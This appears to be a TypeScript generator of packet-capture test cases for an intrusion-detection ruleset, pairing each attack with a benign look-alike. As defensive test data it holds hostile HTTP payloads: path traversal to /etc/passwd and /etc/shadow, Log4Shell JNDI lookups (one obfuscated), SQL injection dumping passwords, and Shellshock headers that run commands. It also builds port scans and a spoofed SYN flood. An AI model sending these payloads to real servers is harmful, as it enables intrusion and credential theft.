/**
 * Generates the captures of the default ruleset's replay cases (test/replay/default-*):
 * for every rule one capture where it must fire and one benign look-alike where it must stay
 * silent. Deterministic (fixed clock, fixed ISNs), documentation addresses only.
 *
 *   npx tsc -p . && node dist/pcaps/make-cases.js [OUTDIR]      (default pcaps/cases)
 *
 * test/replay/cases.test.ts regenerates them into a temp dir and checks the bytes are identical.
 */
import * as fs from 'fs';
import * as path from 'path';
import { Trace, TcpSession, udpExchange, tcpFrame, udpFrame } from '../src/io/craft';
import { dnsMessage, dnsQuery } from '../src/io/craft-dns';

/** 2024-03-04T05:06:07Z */
const START = Date.UTC(2024, 2, 4, 5, 6, 7) / 1000;
const CLIENT = '192.0.2.10', ATTACKER = '203.0.113.66', WEB = '198.51.100.80', DNS = '198.51.100.53';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0';

function get(target: string, headers: Record<string, string> = {}, host = 'www.example.com'): string {
  const h = { 'User-Agent': FIREFOX, Accept: '*/*', ...headers };
  return `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n` + Object.entries(h).map(([k, v]) => `${k}: ${v}\r\n`).join('') + '\r\n';
}
const BODY = '<html><body>ok</body></html>\n';
const OK = `HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: ${BODY.length}\r\n\r\n${BODY}`;

/** One HTTP transaction per request, each on its own connection, with a 200 response. */
function http(requests: string[], client = ATTACKER): Trace {
  const t = new Trace({ start: START });
  let cport = 40000;
  for (const r of requests) {
    new TcpSession(t, { client, server: WEB, cport: cport++, sport: 80 })
      .handshake().send('client', r).send('server', OK).close('fin');
    t.advance(10_000_000);
  }
  return t;
}

function dns(names: string[], client = CLIENT): Trace {
  const t = new Trace({ start: START });
  let id = 0x2000, cport = 53000;
  for (const n of names) {
    udpExchange(t, {
      client, server: DNS, cport: cport++, sport: 53, messages: [
        { from: 'client', data: dnsQuery(id, n, 'A') },
        { from: 'server', data: dnsMessage({ id, response: true, question: { name: n, type: 'A' }, answers: [{ name: n, type: 'A', addr: '198.51.100.7' }] }) },
      ],
    });
    id++;
  }
  return t;
}

/** `n` SYNs from one source to n distinct ports of one host, `gapNs` apart; RST answers. */
function synScan(n: number, gapNs: number): Trace {
  const t = new Trace({ start: START, stepNs: gapNs });
  for (let i = 0; i < n; i++) {
    const port = 1 + ((i * 37) % 10000);
    t.add(tcpFrame(ATTACKER, WEB, '', { sport: 61000, dport: port, seq: 0x5000 + i, ack: 0, flags: 'S', win: 1024, mss: 1460 }));
  }
  return t;
}

/** A busy client: `n` complete connections from one source to ONE port (many SYNs, one port). */
function busyClient(n: number, gapNs: number): Trace {
  const t = new Trace({ start: START, stepNs: 100_000 });
  for (let i = 0; i < n; i++) {
    new TcpSession(t, { client: CLIENT, server: WEB, cport: 30000 + i, sport: 443 }).handshake().close('rst');
    t.advance(gapNs);
  }
  return t;
}

/** `n` UDP datagrams from one source to n distinct ports of one host, `gapNs` apart. */
function udpScan(n: number, gapNs: number): Trace {
  const t = new Trace({ start: START, stepNs: gapNs });
  for (let i = 0; i < n; i++) t.add(udpFrame(ATTACKER, WEB, '', { sport: 61001, dport: 1 + ((i * 53) % 20000) }));
  return t;
}

/** i-th address of 198.18.0.0/15 (RFC 2544 benchmarking range) for spoofed flood sources. */
const bench = (i: number) => `198.18.${(i >> 8) & 0xff}.${(i & 0xff) || 1}`;

/** `n` SYNs from n different (spoofed) sources to port 80 of one host, never completed. */
function synFlood(n: number, gapNs: number): Trace {
  const t = new Trace({ start: START, stepNs: gapNs });
  for (let i = 0; i < n; i++) t.add(tcpFrame(bench(i), WEB, '', { sport: 1024 + (i % 60000), dport: 80, seq: 0x7000 + i, ack: 0, flags: 'S', win: 512 }));
  return t;
}

/** `n` clients completing their handshakes to port 80 of one host (SYN, SYN-ACK, ACK), `gapNs` apart. */
function synBurstCompleted(n: number, gapNs: number): Trace {
  const t = new Trace({ start: START, stepNs: 50_000 });
  for (let i = 0; i < n; i++) {
    new TcpSession(t, { client: bench(i), server: WEB, cport: 1024 + (i % 60000), sport: 80 }).handshake();
    t.advance(gapNs);
  }
  return t;
}

/**
 * SSH SYNs at chosen instants (for the office-hours example, signatures/rules/office-hours.rules),
 * source port = probe number: 50001 Mon 2024-03-04 07:30Z, 50002 Fri 2024-03-29 17:30Z (Paris:
 * CET, 18:30), 50003 Mon 2024-04-01 17:30Z (Paris: CEST since 03-31, 19:30), 50004 Sat
 * 2024-03-30 12:00Z. Office hours Mon-Fri 08:00-18:59: in UTC 50001 and 50004 are outside; in
 * Europe/Paris 50003 (DST) and 50004.
 */
function sshTimes(): Trace {
  const at = [Date.UTC(2024, 2, 4, 7, 30), Date.UTC(2024, 2, 29, 17, 30), Date.UTC(2024, 3, 1, 17, 30), Date.UTC(2024, 2, 30, 12, 0)];
  const t = new Trace({ start: at[0] / 1000 });
  at.forEach((ms, i) => {
    if (i > 0) t.advance((ms - at[i - 1]) * 1e6 - 1_000_000);
    t.add(tcpFrame(CLIENT, WEB, '', { sport: 50001 + i, dport: 22, seq: 0x9000 + i, ack: 0, flags: 'S', win: 64240, mss: 1460 }));
  });
  return t;
}

/**
 * Host tags (test/replay/host-tags): a scanner's HTTP request (sqlmap user agent, answered 503)
 * tags its source for 60 s; its later SSH connection attempts are matched by another rule while
 * the tag lives (+10 s, and 60.000 s: 3 ms before the expiry) and not after it expired (60.004 s,
 * +120 s). The same from an IPv6 source (+10 s, +120 s), a benign
 * client that is never tagged (its request is answered 200), all in one capture.
 */
function hostTags(): Trace {
  const t = new Trace({ start: START });
  const A6 = '2001:db8::66', W6 = '2001:db8::80';
  const SCAN_UA = 'sqlmap/1.7#stable (https://sqlmap.org)';
  const body = 'busy\n';
  const e503 = `HTTP/1.1 503 Service Unavailable\r\nServer: nginx\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  const ssh = (client: string, server: string, cport: number) => new TcpSession(t, { client, server, cport, sport: 22 }).handshake().close('rst');
  // 0 s: the scanner's requests (v4, v6) and a normal client's
  new TcpSession(t, { client: ATTACKER, server: WEB, cport: 41000, sport: 80 }).handshake().send('client', get('/index.php?id=1', { 'User-Agent': SCAN_UA })).send('server', e503).close('fin');
  new TcpSession(t, { client: A6, server: W6, cport: 41001, sport: 80 }).handshake().send('client', get('/index.php?id=1', { 'User-Agent': SCAN_UA })).send('server', e503).close('fin');
  new TcpSession(t, { client: CLIENT, server: WEB, cport: 41002, sport: 80 }).handshake().send('client', get('/')).send('server', OK).close('fin');
  // +10 s: SSH from all three (the scanner's two match: tagged 10 s ago, expire 60 s)
  t.advance(10_000_000_000);
  ssh(ATTACKER, WEB, 42001); ssh(A6, W6, 42002); ssh(CLIENT, WEB, 42003);
  // the v4 tag was set by packet 4 (the request, at 0.003 s) and lives until 60.003 s exactly:
  // a SYN at 60.000 s still matches, one at 60.004 s does not
  t.advance(49_958_000_000);
  ssh(ATTACKER, WEB, 44001); ssh(ATTACKER, WEB, 44002);
  // +120 s: SSH again from the scanner (both tags expired: no match)
  t.advance(60_000_000_000);
  ssh(ATTACKER, WEB, 43001); ssh(A6, W6, 43002);
  return t;
}

const label60 = 'q3b7k2m9x4v8n1c6z5l0p7r2t9w4y8h3j6d1f5g0s2a7e4u9i3o8'.slice(0, 52) + 'abcdefgh';

export const CASES: Record<string, () => Trace> = {
  'traversal': () => http([get('/../../etc/passwd'), get('/download?file=..%2f..%2fetc%2fshadow')]),
  'traversal-benign': () => http([get('/docs/guide/index.html'), get('/static/app.min.js?v=1.2.3')], CLIENT),
  'log4shell': () => http([get('/', { 'User-Agent': '${jndi:ldap://x.example/a}' }), get('/login', { 'X-Api-Version': '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/b}' })]),
  'log4shell-benign': () => http([get('/template?name=${user}', { 'User-Agent': 'curl/8.5.0' })], CLIENT),
  'sqli': () => http([get("/products.php?id=1'%20OR%20'1'='1"), get('/item?id=5%20UNION%20SELECT%20username,password%20FROM%20users'), get('/q?id=1%20AND%20sleep(5)')]),
  'sqli-benign': () => http([get("/search?q=o'reilly+books"), get('/union/select-a-plan')], CLIENT),
  'shellshock': () => http([get('/cgi-bin/status', { Referer: '() { :; }; /bin/bash -c "cat /etc/passwd"' }), get('/cgi-bin/test.cgi', { 'User-Agent': '() { ignored; }; echo; /usr/bin/id' })]),
  'shellshock-benign': () => http([get('/app.js', { Referer: 'https://www.example.com/' }), get('/page?f=function()%7Breturn%201%7D')], CLIENT),
  'scanner-ua': () => http([get('/index.php?id=1', { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' }), get('/admin/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' })]),
  'scanner-ua-benign': () => http([get('/'), get('/robots.txt', { 'User-Agent': 'Googlebot/2.1 (+http://www.google.com/bot.html)' })], CLIENT),
  'dns-tunnel': () => dns([
    `${label60}.t.example.com`,
    `${'a1b2c3d4e5'.repeat(5)}.${'f6g7h8i9j0'.repeat(5)}.${'k1l2m3n4o5'.repeat(3)}.tunnel.example.com`,
  ]),
  'dns-tunnel-benign': () => dns(['www.example.com', 'mail.example.org', 'a-rather-long-but-normal-hostname.cdn.example.net']),
  'portscan': () => synScan(150, 20_000_000),
  'portscan-benign': () => busyClient(300, 10_000_000),
  'udpscan': () => udpScan(120, 20_000_000),
  'udpscan-benign': () => dns(Array.from({ length: 120 }, (_, i) => `host${i}.example.com`)),
  'synflood': () => synFlood(1500, 400_000),
  'synflood-benign': () => synBurstCompleted(1200, 300_000),
  'ssh-times': () => sshTimes(),
  'host-tags': () => hostTags(),
};

export function writeCases(outDir: string): string[] {
  fs.mkdirSync(outDir, { recursive: true });
  const written: string[] = [];
  for (const [name, make] of Object.entries(CASES)) {
    const file = path.join(outDir, `${name}.pcap`);
    fs.writeFileSync(file, make().toPcap());
    written.push(file);
  }
  return written;
}

if (require.main === module) {
  const out = process.argv[2] ?? path.resolve(__dirname, '..', '..', 'pcaps', 'cases');
  for (const f of writeCases(out)) process.stderr.write(`wrote ${f}\n`);
}
